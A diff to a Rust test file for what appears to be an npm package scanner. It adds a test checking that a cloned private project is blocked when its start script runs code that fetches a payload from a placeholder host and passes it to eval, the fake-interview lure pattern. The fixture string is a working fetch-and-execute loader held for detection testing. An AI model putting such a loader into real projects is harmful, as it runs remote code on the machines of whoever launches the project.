@@ -1058,6 +1058,42 @@ module.exports = () => targets.length;
     assert_eq!(verdict(&analyse(&one), &one), Verdict::Allow);
 }
 
+/// A private project (a repository someone clones and runs, the fake-interview
+/// shape) runs what its scripts start; a published library's `start` script runs
+/// for no one who installs it.
+#[test]
+fn a_private_project_runs_what_its_scripts_start() {
+    let server = "const axios = require('axios');\nexports.load = async () => {\n  const result = await axios.get('https://json-bin.example.invalid/b/1');\n  eval(result.data.code);\n};\nexports.load();\n";
+    let project = |private: bool| {
+        airlock_test::PackageBuilder::new("shop-app", "0.1.0")
+            .field("private", serde_json::json!(private))
+            .script("start", "node server/app.js")
+            .file("server/app.js", "require('./controller').load();\n")
+            .file("server/controller.js", server)
+            .build()
+    };
+    let cloned = project(true);
+    let analysis = analyse(&cloned);
+    assert!(
+        matches!(
+            verdict(&analysis, &cloned),
+            Verdict::Block | Verdict::Quarantine { .. }
+        ),
+        "{}",
+        report(&analysis)
+    );
+    let published = project(false);
+    let analysis = analyse(&published);
+    assert!(
+        !matches!(
+            verdict(&analysis, &published),
+            Verdict::Block | Verdict::Quarantine { .. }
+        ),
+        "{}",
+        report(&analysis)
+    );
+}
+
 /// A manifest naming an entry point the tarball lacks says nothing about what
 /// runs: every code file is taken to run at import. One naming none (a command-line
 /// tool) does not make its files import code.
